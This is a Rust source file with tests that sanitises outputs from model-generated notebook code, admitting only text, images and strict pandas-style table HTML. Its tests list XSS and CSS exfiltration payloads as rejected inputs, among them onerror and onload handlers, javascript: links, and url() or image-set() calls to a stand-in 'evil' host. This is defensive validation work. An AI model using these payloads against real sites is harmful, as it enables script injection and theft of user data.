//! What a question worker may show: bounded sizes, and only text, PNG/JPEG and HTML that
//! passes a strict table-markup check (no `<style>`, allowlisted classes, alignment-only CSS).

use super::*;

fn json_text_size(v: &Value) -> usize {
    match v {
        Value::String(s) => s.len(),
        Value::Array(a) => a.iter().map(json_text_size).sum(),
        Value::Object(o) => o.iter().map(|(k, v)| k.len() + json_text_size(v)).sum(),
        _ => 8,
    }
}

pub(super) fn output_size(out: &Output) -> usize {
    match out {
        Output::Stream { text, .. } => text.len(),
        Output::DisplayData { data, metadata, .. }
        | Output::UpdateDisplayData { data, metadata, .. }
        | Output::ExecuteResult { data, metadata } => {
            json_text_size(data) + json_text_size(metadata)
        }
        Output::Error(e) => {
            e.ename.len() + e.evalue.len() + e.traceback.iter().map(String::len).sum::<usize>()
        }
        Output::ClearOutput { .. } => 8,
    }
}

/// Keep only what model code may show: no clear_output (it could hide the code that ran), and
/// in rich outputs only text/plain, PNG/JPEG and HTML that is escaped table markup.
pub(super) fn untrusted_output(out: Output) -> Option<Output> {
    let filter = |data: Value| -> Option<Value> {
        let Value::Object(map) = data else {
            return None;
        };
        let kept: serde_json::Map<String, Value> = map
            .into_iter()
            .filter(|(mime, v)| match (mime.as_str(), v.as_str()) {
                ("text/plain", Some(_)) => true,
                ("image/png" | "image/jpeg", Some(b64)) => b64
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || b"+/=\n\r".contains(&c)),
                ("text/html", Some(html)) => {
                    let ok = html_is_safe(&strip_style_blocks(html));
                    if !ok {
                        tracing::warn!("dropped unsafe HTML from generated code");
                    }
                    ok
                }
                _ => false,
            })
            .map(|(mime, v)| match (mime.as_str(), v.as_str()) {
                ("text/html", Some(html)) => {
                    let cleaned = strip_style_blocks(html);
                    (mime, Value::String(cleaned))
                }
                _ => (mime, v),
            })
            .collect();
        (!kept.is_empty()).then_some(Value::Object(kept))
    };
    match out {
        Output::ClearOutput { .. } => None,
        Output::DisplayData {
            data,
            metadata,
            display_id,
        } => filter(data).map(|data| Output::DisplayData {
            data,
            metadata,
            display_id,
        }),
        Output::UpdateDisplayData {
            data,
            metadata,
            display_id,
        } => filter(data).map(|data| Output::UpdateDisplayData {
            data,
            metadata,
            display_id,
        }),
        Output::ExecuteResult { data, metadata } => {
            filter(data).map(|data| Output::ExecuteResult { data, metadata })
        }
        other => Some(other),
    }
}

/// pandas' notebook tables open with a fixed `<style scoped>` block. CSS can fetch URLs in
/// many spellings (`url(`, `image-set("...")`, `@font-face src`...), so no style block from a
/// worker is shown: they are removed here, and `html_is_safe` refuses any that remain.
pub fn strip_style_blocks(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    loop {
        let lower = rest.to_ascii_lowercase();
        let Some(start) = lower.find("<style") else {
            out.push_str(rest);
            return out;
        };
        let Some(end) = lower[start..].find("</style>") else {
            out.push_str(rest);
            return out;
        };
        out.push_str(&rest[..start]);
        rest = &rest[start + end + "</style>".len()..];
    }
}

/// Whether `html` is table markup as pandas' `to_html(escape=True)` writes it: a few table
/// tags, a few attributes, no script, no event handler, no URL, no comment, no style block,
/// class names from a short list and inline CSS limited to alignment keywords. Anything else
/// is refused, not repaired.
pub fn html_is_safe(html: &str) -> bool {
    const TAGS: &[&str] = &[
        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "p", "span", "br", "caption",
        "b", "i", "em", "strong", "small", "code",
    ];
    const ATTRS: &[&str] = &[
        "border", "class", "style", "rowspan", "colspan", "valign", "halign", "scoped",
    ];
    /// Class names a table may carry (others could borrow the page's own styling).
    const CLASSES: &[&str] = &["dataframe", "llm-analytics-profile"];
    /// Inline CSS: `property: keyword;` pairs for alignment only.
    fn css_ok(css: &str) -> bool {
        css.split(';')
            .map(str::trim)
            .filter(|d| !d.is_empty())
            .all(|decl| {
                let Some((prop, value)) = decl.split_once(':') else {
                    return false;
                };
                matches!(
                    prop.trim().to_ascii_lowercase().as_str(),
                    "text-align" | "vertical-align" | "white-space"
                ) && {
                    let v = value.trim();
                    !v.is_empty() && v.bytes().all(|c| c.is_ascii_lowercase() || c == b'-')
                }
            })
    }
    fn attr_value_ok(attr: &str, value: &str) -> bool {
        match attr {
            "style" => css_ok(value),
            "class" => value.split_whitespace().all(|c| CLASSES.contains(&c)),
            _ => value
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b' '),
        }
    }
    let b = html.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        i += 1;
        let closing = b.get(i) == Some(&b'/');
        if closing {
            i += 1;
        }
        let start = i;
        while i < b.len() && b[i].is_ascii_alphanumeric() {
            i += 1;
        }
        let name = html[start..i].to_ascii_lowercase();
        if !TAGS.contains(&name.as_str()) {
            return false;
        }
        // Attributes up to '>'.
        loop {
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            match b.get(i) {
                None => return false,
                Some(b'>') => {
                    i += 1;
                    break;
                }
                Some(b'/') if b.get(i + 1) == Some(&b'>') => {
                    i += 2;
                    break;
                }
                _ => {}
            }
            if closing {
                return false;
            }
            let a0 = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-') {
                i += 1;
            }
            let attr = html[a0..i].to_ascii_lowercase();
            if !ATTRS.contains(&attr.as_str()) {
                return false;
            }
            if b.get(i) == Some(&b'=') {
                i += 1;
                let value = if b.get(i) == Some(&b'"') {
                    let v0 = i + 1;
                    let Some(len) = html[v0..].find('"') else {
                        return false;
                    };
                    i = v0 + len + 1;
                    &html[v0..v0 + len]
                } else {
                    let v0 = i;
                    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-') {
                        i += 1;
                    }
                    &html[v0..i]
                };
                if !attr_value_ok(&attr, value) {
                    return false;
                }
            }
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pandas_tables_pass_the_html_check() {
        let plain = "<table border=\"1\" class=\"dataframe\">\n  <thead>\n    <tr style=\"text-align: right;\">\n      <th></th>\n      <th>a&lt;b</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th rowspan=\"2\" valign=\"top\">r1</th>\n      <td>&lt;img src=x onerror=alert(1)&gt;</td>\n    </tr>\n  </tbody>\n</table><p>Showing 10 of 50 rows</p>";
        assert!(html_is_safe(plain));
        let notebook = "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n<table border=\"1\" class=\"dataframe\"><tr><th colspan=\"2\" halign=\"left\">x</th></tr></table>\n<p>2 rows × 2 columns</p>\n</div>";
        assert!(!html_is_safe(notebook), "style blocks are refused");
        assert!(html_is_safe(&strip_style_blocks(notebook)));
        assert!(html_is_safe("<div class=\"llm-analytics-profile\"><table border=\"0\" class=\"dataframe\"></table></div>"));
    }

    #[test]
    fn injected_html_fails_the_check() {
        for bad in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<table onmouseover=\"alert(1)\"></table>",
            "<td style=\"background:url(https://evil/x)\">x</td>",
            "<td style=\"background:u&#114;l(https://evil/x)\">x</td>",
            "<style>td { background: url(https://evil/?d=1) }</style>",
            "<style>@import 'https://evil/x.css';</style>",
            "<style>td{}</style><script>alert(1)</script>",
            "<style>td{} </style ><svg onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<!-- x --><table></table>",
            "<iframe src=\"https://evil\"></iframe>",
            "<table",
            "<td class=\"a\"x onclick=\"y\">",
            "<style>unterminated",
            "<style>td { background-image: image-set(\"https://evil/?d=1\" 1x) }</style>",
            "<style>@font-face { font-family: x; src: local(a), \"https://evil/f\" }</style>",
            "<td style=\"background-image: image-set('https://evil/?d=1' 1x)\">x</td>",
            "<td style=\"content: 'x'\">x</td>",
            "<table id=\"notebook-container\"></table>",
            "<table class=\"jp-OutputArea\"></table>",
            "<td valign=\"top&quot;\">x</td>",
        ] {
            assert!(!html_is_safe(bad), "accepted: {bad}");
        }
    }

    #[test]
    fn style_blocks_are_removed_from_worker_html() {
        let html = "<STYLE scoped>td{background:image-set('https://e/' 1x)}</style><table class=\"dataframe\"><tr style=\"text-align: right;\"><td>1</td></tr></table>";
        let cleaned = strip_style_blocks(html);
        assert!(!cleaned.to_ascii_lowercase().contains("style>"));
        assert!(html_is_safe(&cleaned));
        // Removing a block can only leave text around it, never join a new tag that passes.
        assert!(!html_is_safe(&strip_style_blocks(
            "<sty<style></style>le>x</style>"
        )));
        let out = untrusted_output(Output::DisplayData {
            data: json!({"text/html": html}),
            metadata: json!({}),
            display_id: None,
        });
        match out {
            Some(Output::DisplayData { data, .. }) => {
                assert!(!data["text/html"].as_str().unwrap().contains("image-set"))
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn untrusted_outputs_are_filtered() {
        let out = untrusted_output(Output::DisplayData {
            data: json!({"text/html": "<script>x</script>", "text/plain": "x",
                         "application/javascript": "alert(1)", "image/svg+xml": "<svg onload=x>",
                         "text/markdown": "![x](https://evil/?d=1)"}),
            metadata: json!({}),
            display_id: None,
        });
        match out {
            Some(Output::DisplayData { data, .. }) => assert_eq!(data, json!({"text/plain": "x"})),
            other => panic!("unexpected {other:?}"),
        }
        assert!(untrusted_output(Output::ClearOutput { wait: false }).is_none());
        assert!(untrusted_output(Output::ExecuteResult {
            data: json!({"text/html": "<b onclick=x>"}),
            metadata: json!({})
        })
        .is_none());
        assert!(matches!(
            untrusted_output(Output::Stream {
                name: "stdout".into(),
                text: "<b>".into()
            }),
            Some(Output::Stream { .. })
        ));
    }
}
